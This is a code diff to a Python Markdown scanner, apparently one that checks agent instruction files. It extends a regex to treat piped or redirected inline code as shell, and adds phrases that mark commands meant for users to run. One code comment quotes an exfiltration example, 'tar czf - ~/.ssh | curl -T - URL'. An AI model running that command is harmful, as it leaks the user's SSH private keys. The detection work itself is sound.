@@ -17,7 +17,10 @@ _FENCE = re.compile(r"^\s{0,3}(`{3,}|~{3,})\s*([\w+.#-]*)")
 _TABLE = re.compile(r"^\s*\|.*\|\s*$")
 _QUOTE = re.compile(r"^\s*>")
 _HEADING = re.compile(r"^\s{0,3}#{1,6}\s")
-_BANG = re.compile(r"!`([^`\n]+)`")
+#: `` !`cmd` `` lines, and command lines written as inline code with a pipe, `$(...)`, `&&` or a
+#: redirect after a word (`` `tar czf - ~/.ssh | curl -T - URL` ``, not `<vault>/CLAUDE.md`): both
+#: are read as shell, like a fenced block
+_BANG = re.compile(r"!`([^`\n]+)`|`([^`\n]*(?:\||\$\(|&&|\s\d?>)[^`\n]*)`")
 INLINE_CODE = re.compile(r"`[^`\n]*`")
 #: `[//]: # (text)` and `[comment]: <> (text)`: Markdown link definitions used as hidden comments.
 _MD_COMMENT = re.compile(r"^\s{0,3}\[(?://|comment|_)\]:\s*(?:#|<>)")
@@ -81,6 +84,8 @@ _FOR_USER = re.compile(
     r"\s+yourself\b|\bfor\s+the\s+user\s+to\s+(?:run|review|add|install|load)\b"
     # "show it to the user; they load it themselves", "never load it for them"
     r"|\b(?:show|give|hand|print)\s+(?:it|this|that|them|the\s+\w+)\s+to\s+the\s+user\b"
+    # "give the user the commands to run" (not "give the user a summary")
+    r"|\b(?:give|hand)\s+the\s+user\s+(?:the\s+)?(?:commands?|lines?|steps?|instructions?)\b"
     r"|\b(?:load|install|run|enable|add|paste)\w*\s+(?:it|this|that|them)\s+themselves\b"
     r"|\b(?:do\s+not|don'?t|never)\s+(?:load|install|run|enable|add)\s+(?:it|this|that|them)\s+for\s+(?:them|the\s+user)\b",
     re.IGNORECASE,
@@ -381,7 +386,7 @@ def build(rel: str, text: str, referenced: set[str]) -> FileContext:
         elif _HEADING.match(line):
             ctx.kinds[i] = "heading"
         for b in _BANG.finditer(line):
-            ctx.bang.append((i, b.group(1)))
+            ctx.bang.append((i, b.group(1) or b.group(2)))
     if fence is not None:
         ctx.fences.append(Fence(fence[1], fence[2], "\n".join(body), fence[3]))
     close_item()
